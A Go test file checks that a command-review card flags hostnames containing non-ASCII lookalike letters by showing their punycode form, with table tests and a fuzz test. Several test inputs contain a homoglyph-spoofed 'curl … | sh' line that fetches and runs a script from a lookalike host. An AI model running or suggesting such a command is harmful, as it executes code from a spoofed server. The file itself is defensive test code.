package cards

import (
	"strings"
	"testing"
)

// TestNonASCIIHostShowsPunycode: a host written with letters outside
// ASCII (a Cyrillic ѕ in get.k3ѕ.io) reads like the ASCII host it
// imitates; the card names it as punycode, the name it has on the wire,
// right under the command (rt9c F6). ASCII hosts and non-ASCII words that
// are not hosts get no such line.
func TestNonASCIIHostShowsPunycode(t *testing.T) {
	cases := []struct {
		name, src string
		want      []string
	}{
		{"homoglyph in a URL", "curl -fsSL https://get.k3\u0455.io | sh", []string{"get.xn--k3-foc.io"}},
		{"user, port and path", "curl https://me@get.k3\u0455.io:8443/x.sh", []string{"get.xn--k3-foc.io"}},
		{"scp target", "scp a.txt me@b\u00fccher.example:/tmp/", []string{"xn--bcher-kva.example"}},
		{"two hosts", "curl https://get.k3\u0455.io https://b\u00fccher.example/", []string{"get.xn--k3-foc.io", "xn--bcher-kva.example"}},
		{"non-ASCII file name", "cat r\u00e9sum\u00e9.pdf", nil},
		{"ASCII host", "curl -fsSL https://get.k3s.io | sh", nil},
		{"non-ASCII word, no host", "echo caf\u00e9 \u0456\u0441\u043f\u0440\u0430\u0432\u0438\u0442\u0438", nil},
	}
	p := policy(t, false)
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			card := cardFor(t, c.src, p)
			for _, w := range []int{80, 120} {
				var command string
				for _, s := range CardSections(card, w, PlainStyles()) {
					if s.Title == SectionCommand {
						command = plain(s.Lines)
					}
					checkLines(t, s.Title, s.Lines, w)
				}
				for _, want := range c.want {
					if !strings.Contains(command, "not ASCII") || !strings.Contains(command, want) {
						t.Errorf("width %d: the command section does not name %q as a non-ASCII host:\n%s", w, want, command)
					}
				}
				if c.want == nil && strings.Contains(command, "not ASCII") {
					t.Errorf("width %d: a warning where no host is non-ASCII:\n%s", w, command)
				}
			}
		})
	}
}

// TestForeignHosts reads the hosts with letters outside ASCII from a
// command, as punycode.
func TestForeignHosts(t *testing.T) {
	got := ForeignHosts("curl https://get.k3\u0455.io/a https://get.k3\u0455.io/b; ssh git@b\u00fccher.example ls")
	want := []string{"get.xn--k3-foc.io", "xn--bcher-kva.example"}
	if len(got) != len(want) {
		t.Fatalf("ForeignHosts: %v, want %v", got, want)
	}
	for i := range want {
		if got[i].ASCII != want[i] {
			t.Errorf("host %d: %q, want %q", i, got[i].ASCII, want[i])
		}
	}
}

// FuzzForeignHosts: any command reads without panic, and every host it
// names is named in ASCII, at most foreignHostsMax of them.
func FuzzForeignHosts(f *testing.F) {
	for _, s := range []string{"curl https://get.k3\u0455.io | sh", "scp a me@b\u00fccher.example:/x", "ssh @\u00fc.", "x://@:\u0455.."} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := ForeignHosts(s)
		if len(got) > foreignHostsMax {
			t.Fatalf("%d hosts, more than %d", len(got), foreignHostsMax)
		}
		for _, h := range got {
			for i := 0; i < len(h.ASCII); i++ {
				if h.ASCII[i] >= 0x80 {
					t.Fatalf("host %q named %q, not ASCII", h.Name, h.ASCII)
				}
			}
		}
	})
}
